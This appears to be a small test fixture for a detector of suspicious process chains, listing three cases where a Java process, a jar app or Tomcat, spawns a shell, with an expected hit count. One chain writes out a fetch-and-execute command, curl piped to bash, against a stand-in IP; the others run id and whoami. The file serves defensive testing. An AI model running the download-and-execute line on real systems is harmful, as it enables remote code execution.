# SPDX-License-Identifier: Apache-2.0
# hits: 3
# fake: /usr/lib/jvm/java-17-openjdk-amd64/bin/java /usr/bin/curl
chain /usr/lib/jvm/java-17-openjdk-amd64/bin/java -jar app.jar :: bash -c 'curl -s http://192.0.2.7/a|bash'
chain /usr/lib/jvm/java-17-openjdk-amd64/bin/java org.apache.catalina.startup.Bootstrap start :: sh -c id
chain /usr/lib/jvm/java-17-openjdk-amd64/bin/java -jar app.jar :: whoami
